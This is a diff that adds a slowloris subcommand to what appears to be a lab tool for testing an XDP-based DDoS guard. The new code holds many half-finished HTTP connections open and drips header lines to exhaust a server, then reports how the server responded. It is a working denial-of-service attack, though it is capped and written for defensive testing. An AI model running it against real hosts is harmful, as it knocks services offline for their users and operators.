@@ -152,6 +152,63 @@ def client(url: str, duration: float, interval: float, timeout: float, host: str
     return counts
 
 
+# ---- slowloris ----
+
+
+def slowloris(host: str, port: int, conns: int, duration: float, interval: float) -> dict:
+    """Hold `conns` connections open, each sending an unfinished request one header line every
+    `interval` s, for `duration` s; a connection the server closes is opened again. Counts what
+    the server did: closed (timed out) connections, refused/reset connects."""
+    import selectors
+    import socket
+
+    sel = selectors.DefaultSelector()
+    counts = {"opened": 0, "closed_by_server": 0, "connect_failed": 0, "max_open": 0}
+    socks: set = set()
+
+    def open_one() -> None:
+        try:
+            c = socket.create_connection((host, port), timeout=1.0)
+            c.sendall(f"GET /?slow HTTP/1.1\r\nHost: {host}\r\n".encode())
+            c.setblocking(False)
+            sel.register(c, selectors.EVENT_READ)
+            socks.add(c)
+            counts["opened"] += 1
+        except OSError:
+            counts["connect_failed"] += 1
+
+    end = time.monotonic() + duration
+    next_tick = 0.0
+    while time.monotonic() < end:
+        if time.monotonic() >= next_tick:  # once per interval: a header line each, then refill
+            next_tick = time.monotonic() + interval
+            for c in list(socks):
+                try:
+                    c.send(b"X-a: b\r\n")
+                except OSError:
+                    pass
+            while len(socks) < conns and time.monotonic() < end:
+                before = counts["connect_failed"]
+                open_one()
+                if counts["connect_failed"] > before:
+                    break  # refused: try again on the next tick
+            counts["max_open"] = max(counts["max_open"], len(socks))
+        for key, _ in sel.select(timeout=0.1):
+            c = key.fileobj
+            try:
+                data = c.recv(4096)
+            except OSError:
+                data = b""
+            if not data:  # the server closed it (or answered 408 and closed)
+                sel.unregister(c)
+                socks.discard(c)
+                c.close()
+                counts["closed_by_server"] += 1
+    for c in socks:
+        c.close()
+    return counts
+
+
 def main(argv: list[str] | None = None) -> int:
     ap = argparse.ArgumentParser(prog="python -m xdpguard.lab.l7")
     sub = ap.add_subparsers(dest="cmd", required=True)
@@ -165,7 +222,17 @@ def main(argv: list[str] | None = None) -> int:
     c.add_argument("--interval", type=float, default=0.05)
     c.add_argument("--timeout", type=float, default=2.0)
     c.add_argument("--host")
+    w = sub.add_parser("slowloris")
+    w.add_argument("--host", required=True)
+    w.add_argument("--port", type=int, default=HTTP_PORT)
+    w.add_argument("--conns", type=int, default=150)
+    w.add_argument("--duration", type=float, default=10.0)
+    w.add_argument("--interval", type=float, default=1.0)
     a = ap.parse_args(argv)
+    if a.cmd == "slowloris":
+        print(json.dumps(slowloris(a.host, a.port, min(a.conns, 1000), min(a.duration, 120.0), a.interval)),
+              flush=True)
+        return 0
     if a.cmd == "serve":
         return serve(a.port, min(a.duration, 3600.0), max(0, min(a.page_bytes, 1 << 20)))
     print(json.dumps(client(a.url, min(a.duration, 600.0), a.interval, a.timeout, a.host)), flush=True)
